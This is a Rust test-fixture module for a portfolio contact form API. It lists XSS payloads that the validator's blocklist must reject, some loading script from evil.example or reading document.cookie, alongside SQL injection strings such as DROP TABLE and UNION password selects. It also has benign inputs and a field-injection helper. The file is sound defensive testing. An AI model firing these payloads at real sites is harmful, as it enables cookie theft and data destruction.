// SPDX-FileCopyrightText: 2026 Hyperpolymath
// SPDX-License-Identifier: Apache-2.0

//! Payload corpora for abuse simulation.

use portfolio_api::contact::ContactRequest;

/// Contact fields a payload can be injected into.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Field {
    Name,
    Email,
    EnquiryType,
    Company,
    Message,
}

pub const ALL_FIELDS: [Field; 5] = [
    Field::Name,
    Field::Email,
    Field::EnquiryType,
    Field::Company,
    Field::Message,
];

/// XSS payloads the blocklist must reject.
pub fn xss_payloads() -> Vec<&'static str> {
    vec![
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<body onload=alert(1)>",
        "javascript:alert(document.cookie)",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<object data=\"x\"></object>",
        "<embed src=\"x\">",
        "data:text/html;base64,PHNjcmlwdD4=",
    ]
}

/// SQL injection payloads the blocklist must reject.
pub fn sql_payloads() -> Vec<&'static str> {
    vec![
        "' OR '1'='1",
        "\" OR \"\"=\"",
        "admin'--",
        "1; DROP TABLE subscribers",
        "x UNION select password from users",
        "/* comment */ payload",
        "name'; DELETE from campaigns",
    ]
}

/// Ordinary submissions that must pass the sweep untouched.
pub fn benign_payloads() -> Vec<&'static str> {
    vec![
        "Hello there, this is a test message.",
        "We met at the conference in Lyon last spring.",
        "Jean-Pierre O'Brien",
        "Looking forward to hearing back from you.",
    ]
}

/// A request that validates cleanly before injection.
pub fn baseline_request() -> ContactRequest {
    ContactRequest {
        name: "Jo Bloggs".to_string(),
        email: "jo@example.com".to_string(),
        enquiry_type: "Consulting".to_string(),
        company: Some("Acme".to_string()),
        message: "Hello there, this is a test message.".to_string(),
        ..ContactRequest::default()
    }
}

/// Place a payload into one field of an otherwise valid request.
pub fn inject(field: Field, payload: &str) -> ContactRequest {
    let mut request = baseline_request();
    match field {
        Field::Name => request.name = payload.to_string(),
        Field::Email => request.email = payload.to_string(),
        Field::EnquiryType => request.enquiry_type = payload.to_string(),
        Field::Company => request.company = Some(payload.to_string()),
        Field::Message => request.message = payload.to_string(),
    }
    request
}

/// Generate a pool of client ids in the 10.x.x.x range.
pub fn generate_clients(count: usize) -> Vec<String> {
    (0..count)
        .map(|i| {
            let a = (i >> 16) & 0xFF;
            let b = (i >> 8) & 0xFF;
            let c = i & 0xFF;
            format!("10.{a}.{b}.{c}")
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn baseline_request_is_valid() {
        assert!(portfolio_api::contact::validate(baseline_request()).is_ok());
    }

    #[test]
    fn generated_clients_are_unique() {
        let clients = generate_clients(300);
        let unique: std::collections::HashSet<_> = clients.iter().collect();
        assert_eq!(unique.len(), 300);
    }
}
